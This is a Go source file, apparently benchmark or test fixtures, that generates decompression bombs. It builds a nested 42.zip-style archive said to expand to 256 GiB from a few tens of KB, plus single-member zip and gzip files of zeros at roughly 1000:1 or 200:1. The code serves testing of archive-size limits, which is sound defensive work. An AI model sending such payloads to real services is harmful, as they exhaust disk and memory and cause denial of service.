package benchzip

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"hash/crc32"
)

// zeroDeflate returns a raw deflate stream of n MiB of zeros and its CRC-32,
// built by repeating one sync-flushed MiB block: a byte-aligned block of
// zeros decodes the same wherever it starts, so a GiB costs a MiB of
// output and no GiB of input. pad adds that many zeros as a stored block
// after each MiB, lowering the ratio from about 1000:1.
func zeroDeflate(mib, pad int) ([]byte, uint32, uint64) {
	var blk bytes.Buffer
	fw, _ := flate.NewWriter(&blk, flate.BestCompression)
	zeros := make([]byte, 1<<20)
	fw.Write(zeros)
	fw.Flush() // ends on a byte boundary with an empty stored block
	chunk := blk.Bytes()
	if pad > 0 {
		n := uint16(pad)
		chunk = append(chunk, 0x00, byte(n), byte(n>>8), ^byte(n), ^byte(n>>8))
		chunk = append(chunk, make([]byte, pad)...)
	}
	out := make([]byte, 0, len(chunk)*mib+2)
	crc := uint32(0)
	for i := 0; i < mib; i++ {
		out = append(out, chunk...)
		crc = crc32.Update(crc, crc32.IEEETable, zeros)
		crc = crc32.Update(crc, crc32.IEEETable, zeros[:pad])
	}
	size := uint64(mib) * uint64(1<<20+pad)
	return append(out, 0x03, 0x00), crc, size // a final, empty fixed-Huffman block
}

// rawZip writes members whose deflated bytes are given, without
// recompressing them.
func rawZip(members []rawMember) []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, m := range members {
		w, err := zw.CreateRaw(&zip.FileHeader{Name: m.name, Method: zip.Deflate, CRC32: m.crc,
			CompressedSize64: uint64(len(m.deflated)), UncompressedSize64: m.size})
		if err != nil {
			panic(err)
		}
		w.Write(m.deflated)
	}
	zw.Close()
	return buf.Bytes()
}

type rawMember struct {
	name     string
	deflated []byte
	crc      uint32
	size     uint64
}

// Bomb42 returns a nested zip bomb in the style of 42.zip: outer holds
// fanout zips, each holding fanout members of mib MiB of zeros, so
// Bomb42(16, 1024) is 16 x 16 x 1 GiB = 256 GiB from a few tens of KB.
func Bomb42(fanout, mib int) []byte {
	leaf, crc, size := zeroDeflate(mib, 0)
	inner := make([]rawMember, fanout)
	for i := range inner {
		inner[i] = rawMember{name: "zeros" + itoa(i) + ".dat", deflated: leaf, crc: crc, size: size}
	}
	innerZip := rawZip(inner)
	var def bytes.Buffer
	fw, _ := flate.NewWriter(&def, flate.BestCompression)
	fw.Write(innerZip)
	fw.Close()
	outer := make([]rawMember, fanout)
	for i := range outer {
		outer[i] = rawMember{name: "lib" + itoa(i) + ".zip", deflated: def.Bytes(), crc: crc32.ChecksumIEEE(innerZip), size: uint64(len(innerZip))}
	}
	return rawZip(outer)
}

// ZerosMember returns a zip whose one member, name, is about mib MiB of
// zeros, deflated at about 1000:1, or with padded set at about 200:1 (the
// shape of issue 9, R3: a 4 GiB data.pkl of zeros in an 18 MB zip).
func ZerosMember(name string, mib int, padded bool) []byte {
	pad := 0
	if padded {
		pad = 4096
	}
	leaf, crc, size := zeroDeflate(mib, pad)
	return rawZip([]rawMember{{name: name, deflated: leaf, crc: crc, size: size}})
}

func itoa(i int) string {
	if i < 10 {
		return string(rune('0' + i))
	}
	return itoa(i/10) + string(rune('0'+i%10))
}

// GzipZeros returns a gzip file of mib MiB of zeros, built without
// compressing them (see zeroDeflate).
func GzipZeros(mib int) []byte {
	def, crc, size := zeroDeflate(mib, 0)
	out := []byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff}
	out = append(out, def...)
	out = binary.LittleEndian.AppendUint32(out, crc)
	return binary.LittleEndian.AppendUint32(out, uint32(size))
}
